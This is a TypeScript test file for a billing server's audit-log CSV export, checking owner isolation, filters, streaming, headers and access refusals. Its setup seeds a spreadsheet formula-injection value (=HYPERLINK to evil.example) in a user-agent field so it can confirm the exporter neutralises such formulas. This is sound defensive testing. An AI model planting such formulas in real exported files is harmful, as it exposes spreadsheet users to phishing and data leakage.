import { afterAll, beforeAll, expect, it } from 'vitest';
import { auditExportPath } from '../../../src/contract/index.ts';
import { type AuditQuery, type BillingStore, createBillingServer } from '../../../src/server/index.ts';
import { APP_ORIGIN, FOREIGN, OWN, openStage, type Stage, WHO_HEADER } from '../security/support/stage.ts';

const OWNER = `${OWN}/owner`;
const OWNER_ID = `organization_${OWN}`;

let stage: Stage;

beforeAll(async () => {
  stage = await openStage();
  await stage.sandbox.store.transaction(async (transaction) => {
    for (let number = 0; number < 1_100; number += 1) {
      await transaction.appendAudit(
        {
          externalId: OWNER_ID,
          actor: 'many',
          action: 'test.counted',
          subjectId: `thing "${number}"`,
          details: { number },
          at: `2027-03-0${1 + (number % 9)}T00:00:00.000Z`,
        },
        { address: '203.0.113.9', agent: `=HYPERLINK("https://evil.example?${number}","x")` },
      );
    }
  });
});
afterAll(() => stage.close());

interface Ask {
  search?: string;
  headers?: Record<string, string>;
  wrapStore?: (store: BillingStore) => BillingStore;
  isMember?: () => boolean;
}

async function ask({ search = '', headers = {}, wrapStore = (store) => store, isMember }: Ask = {}) {
  const options = stage.options();
  const server = createBillingServer({
    ...options,
    store: wrapStore(options.store),
    authenticate: (request) => (isMember?.() === false ? null : options.authenticate(request)),
  });
  await server.start();
  const url = `${APP_ORIGIN}/api/billing${auditExportPath()}${search}`;
  const response = await server.handler(
    new Request(url, { headers: { [WHO_HEADER]: OWNER, 'sec-fetch-site': 'same-origin', ...headers } }),
  );
  return { response, close: () => server.close() };
}

async function read(given: Ask = {}): Promise<string[][]> {
  const { response, close } = await ask(given);
  const text = await response.text();
  await close();
  expect(response.status, text).toBe(200);
  return parseCsv(text);
}

// As RFC 4180 writes it, character by character: the writer under test has no part in reading.
function parseCsv(text: string): string[][] {
  const records: string[][] = [[]];
  let field = '';
  let isQuoted = false;
  for (let at = 0; at < text.length; at += 1) {
    const [char, next] = [text[at], text[at + 1]];
    if (isQuoted && char === '"' && next === '"') {
      field += '"';
      at += 1;
    } else if (char === '"') isQuoted = !isQuoted;
    else if (!isQuoted && char === ',') {
      records.at(-1)?.push(field);
      field = '';
    } else if (!isQuoted && char === '\r' && next === '\n') {
      records.at(-1)?.push(field);
      records.push([]);
      field = '';
      at += 1;
    } else field += char;
  }
  expect(records.pop()).toEqual([]);
  return records;
}

it('holds every entry of the owner once, newest first, and none of another owner', async () => {
  const [header, ...records] = await read();
  const kept = await stage.sandbox.store.listAudit(OWNER_ID, 10_000);

  expect(header?.join()).toBe('id,at,actor,action,subject_id,details,before,after,address,agent');
  expect(records.map(([id]) => id)).toEqual(kept.map(({ id }) => id));
  expect(records.length).toBeGreaterThan(1_100);
  const theirs = new Set(
    (await stage.sandbox.store.listAudit(`organization_${FOREIGN}`, 10_000)).map(({ id }) => id),
  );
  expect(theirs.size).toBeGreaterThan(0);
  expect(records.filter(([id = '']) => theirs.has(id))).toEqual([]);
});

it('holds only what matches', async () => {
  const search = '?actor=many&from=2027-03-02T00:00:00Z&until=2027-03-04T00:00:00Z&subjectId=thing+%221%22';
  const [, ...records] = await read({ search });

  expect(records).toHaveLength(1);
  expect(records[0]?.slice(1, 6)).toEqual([
    '2027-03-02T00:00:00.000Z',
    'many',
    'test.counted',
    'thing "1"',
    '{"number":1}',
  ]);
});

it('carries no formula, whatever a browser calls itself', async () => {
  const [, ...records] = await read({ search: '?actor=many' });

  expect(records).toHaveLength(1_100);
  for (const [agent] of records.map((record) => record.slice(-1))) expect(agent).toMatch(/^'=HYPERLINK/);
  expect(records.flat().filter((field) => /^[=+\-@\t\r]/.test(field))).toEqual([]);
});

it('is a file to keep, kept by no cache, that says whose it is', async () => {
  const { response, close } = await ask();
  await response.body?.cancel();
  await close();

  expect(Object.fromEntries(response.headers)).toMatchObject({
    'content-type': 'text/csv; charset=utf-8; header=present',
    'content-disposition': 'attachment; filename="audit-log.csv"',
    'cache-control': 'no-store',
    'floe-owner': OWNER_ID,
  });
});

it('is read as it is taken, a page at a time', async () => {
  const asked: AuditQuery[] = [];
  const wrapStore = (store: BillingStore): BillingStore => ({
    ...store,
    listAuditEntries: (owner, query) => {
      asked.push(query);
      return store.listAuditEntries(owner, query);
    },
  });
  const { response, close } = await ask({ search: '?actor=many', wrapStore });
  expect(asked).toEqual([]);
  const reader = response.body?.getReader();
  await reader?.read();
  expect(asked).toHaveLength(1);
  await reader?.cancel();
  await close();

  expect(asked).toHaveLength(1);
  expect(asked[0]?.limit).toBeLessThanOrEqual(500);
});

it('ends for who is removed meanwhile', async () => {
  let isMember = true;
  const { response, close } = await ask({ search: '?actor=many', isMember: () => isMember });
  const reader = response.body?.getReader();
  await reader?.read();
  isMember = false;

  await expect(reader?.read()).rejects.toThrow('The export broke off.');
  await close();
});

it.each([
  ['somebody who is not signed in', { headers: { [WHO_HEADER]: '' } }, 401],
  ['a manager', { headers: { [WHO_HEADER]: `${OWN}/manager` } }, 403],
  ['a member', { headers: { [WHO_HEADER]: `${OWN}/member` } }, 403],
  ['a page of another site', { headers: { 'sec-fetch-site': 'cross-site' } }, 403],
  ['a page that shows another owner', { headers: { 'floe-owner': `organization_${FOREIGN}` } }, 409],
  ['a filter that is none', { search: '?externalId=organization_alpine' }, 400],
  ['a time that is none', { search: '?from=yesterday' }, 400],
  ['a year that no database knows', { search: '?from=0000-01-01T00:00:00Z' }, 400],
] as const)('is refused to %s', async (_, given, status) => {
  const { response, close } = await ask(given);
  const text = await response.text();
  await close();

  expect(response.status, text).toBe(status);
  expect(response.headers.get('content-type')).toBe('application/json');
  expect(text).not.toContain('many');
});
